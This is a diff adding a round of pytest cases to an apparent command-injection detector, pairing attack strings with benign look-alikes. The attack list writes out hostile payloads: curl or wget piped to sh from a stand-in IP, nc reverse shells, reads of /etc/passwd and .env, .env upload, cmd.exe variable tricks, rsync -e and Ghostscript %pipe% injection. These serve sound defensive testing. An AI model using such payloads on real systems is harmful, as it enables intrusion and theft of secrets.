@@ -1179,3 +1179,99 @@ def test_option_injection_into_a_tool(engine, value):
 def test_options_that_run_nothing_are_clean(value):
     f = rce.analyze(value)
     assert f is None or f.score < THRESHOLD, f
+
+
+# --- Round 8 (blind batches g–j and benign 4). Commands inside rich-text markup (`<pre><code>npm install …</code>`):
+# to a shell the opening tag is a redirection from a missing file and the first word an output file, so a value that
+# opens with a tag has no program at its start (separators and substitutions inside still count). Markdown documents:
+# link and badge syntax reads as its text around an inline code span. Searches naming a tool's dotfile among words.
+# cmd.exe names built from `set` variables, rsync's `-e` naming a shell, Ghostscript's `%pipe%`. Measured before the
+# fix: 17 / 17 attacks caught and 10 / 17 benign flagged in the first part; in the second (cmd/rsync/gs) 4 / 13 attacks
+# caught (by other rules) and 0 / 12 benign flagged. After: 30 / 30 caught, 0 / 29 flagged.
+ROUND8_ATTACKS: list[tuple[str, str]] = [
+    ("form", "<p>hello</p>; cat /etc/passwd"),
+    ("form", "<b>x</b> | nc 198.18.0.9 4444 -e /bin/sh"),
+    ("form", "<code>$(id)</code>"),
+    ("json", "<pre>`whoami`</pre>"),
+    ("form", "<p>ok</p>\ncurl -s http://198.18.0.9/x.sh | bash"),
+    ("form", "<code>x</code> && wget http://198.18.0.9/s -O /tmp/s"),
+    ("form", "<p>/bin/cat /etc/passwd</p>"),
+    ("json", "[![x](https://a.example/b.svg)](https://c.example/d)\n\n`curl http://198.18.0.9/x|sh`"),
+    ("json", "# title\n\n[a](https://b.example) $(id)"),
+    ("json", "[![Build](https://img.shields.io/x.svg)](https://ci.example/x)`id`"),
+    ("form", "[link](https://x.example) `cat /etc/passwd`"),
+    ("json", "# readme\n`wget -O- http://198.18.0.9/a | sh`"),
+    ("query", "bash .x"),
+    ("query", "$(cat .env)"),
+    ("query", "cat /app/.env"),
+    ("query", "curl -F f=@.env http://198.18.0.9/"),
+    ("query", "php .htaccess"),
+    # cmd.exe: a program name spelled by variables the value sets (or glued from several)
+    ("form", "& set x=whoami& call %x%"),
+    ("query", "x& set a=who& set b=ami& %a%%b%"),
+    ("form", "a | set p=net& %p% user"),
+    ("json", "x&& set c=who& set d=ami& start %c%%d%"),
+    ("query", "1 & set n=ipcon& set m=fig& call %n%%m% /all"),
+    # rsync's remote-shell option naming a shell or a downloader
+    ("query", "-e 'sh -c \"curl 198.18.0.9/x|sh\"' host:/data"),
+    ("form", "-e \"bash -c id\" a:b"),
+    ("query", "-e'sh -c id' x:"),
+    ("json", "-e 'wget -qO- 198.18.0.9/s|sh' h:"),
+    # Ghostscript's pipe device
+    ("form", "/OutputFile (%pipe%curl http://198.18.0.9/x -o /tmp/x)"),
+    ("form", "-sOutputFile=%pipe%nc 198.18.0.9 4444"),
+    ("json", "%!PS\n(%pipe%touch /tmp/gs) (w) file"),
+    ("form", "mark /OutputFile (|touch /tmp/pwned) currentdevice putdeviceprops"),
+]
+ROUND8_BENIGN: list[tuple[str, str]] = [
+    ("form", '<pre><code class="language-shell">pip install -r requirements.txt</code></pre>'),
+    ("form", '<pre>docker run -d -p 8080:80 nginx</pre><p>The site is then on port 8080.</p>'),
+    ("json", '<p><code>brew install --cask firefox</code></p>'),
+    ("form", '<li><code>npm run build -- --watch</code></li>'),
+    ("form", '<pre class="wp-block-code"><code>sudo apt-get install -y curl</code></pre>'),
+    ("json", '<h3>Setup</h3><pre><code>python3 -m venv .venv</code></pre>'),
+    ("json", "# left-pad\n\n[![npm](https://img.shields.io/npm/v/left-pad.svg)](https://www.npmjs.com/package/left-pad)\n\n"
+             "Install with `npm i left-pad`."),
+    ("json", "## Usage\n\n[![PyPI](https://img.shields.io/pypi/v/httpx.svg)](https://pypi.org/project/httpx/)\n\n"
+             "Run `python -m httpx --help` for the options."),
+    ("form", "# acme-cli\n\n![demo](docs/demo.gif)\n\nThen start it with `acme serve --port 8080`."),
+    ("json", "[![CI](https://github.com/acme/app/actions/workflows/ci.yml/badge.svg)](https://github.com/acme/app/actions)\n\n"
+             "Build it with `cargo build --release` first."),
+    ("form", "# dotfiles\n\n[![License: MIT](https://img.shields.io/badge/License-MIT-yellow.svg)](LICENSE)\n\nClone and run `./install.sh`."),
+    ("query", "git .gitignore not working"),
+    ("query", "npm .npmrc registry token"),
+    ("query", "python .env file load"),
+    ("query", "vim .vimrc example"),
+    ("query", "docker compose env_file vs .env"),
+    ("query", "kubectl .kube config location"),
+    ("form", "Please call %name% at reception & start %time%"),
+    ("form", "Hi %first_name%, your order %order_id% & invoice %invoice_no% are attached"),
+    ("form", "%first_name% & %last_name%"),
+    ("query", "-e production"),
+    ("query", "-e ssh"),
+    ("query", "-e \"ssh -p 2222\""),
+    ("query", "-e 's/colour/color/g'"),
+    ("query", "-e shellcheck"),
+    ("query", "Ghostscript %pipe% device explained"),
+    ("query", "gs -sOutputFile=out.pdf in.ps"),
+    ("form", "/OutputFile (out.pdf) currentdevice putdeviceprops"),
+    ("query", "the %pipe% syntax in gs docs"),
+]
+
+
+def test_round8_sets_are_distinct():
+    assert len(set(ROUND8_ATTACKS)) == len(ROUND8_ATTACKS) and len(set(ROUND8_BENIGN)) == len(ROUND8_BENIGN)
+    assert not set(ROUND8_BENIGN) & set(ALL_BENIGN + ROUND5_BENIGN + ROUND6_BENIGN)
+    assert not set(ROUND8_ATTACKS) & set(ALL_ATTACKS + ROUND5_ATTACKS + ROUND6_ATTACKS)
+
+
+@pytest.mark.parametrize("row", ROUND8_ATTACKS, ids=_label)
+def test_round8_command_injection_is_caught(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+@pytest.mark.parametrize("row", ROUND8_BENIGN, ids=_label)
+def test_round8_benign_is_clean(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert verdict(hits) == "clean", [(h.rule, h.score) for h in hits if h.score >= THRESHOLD]
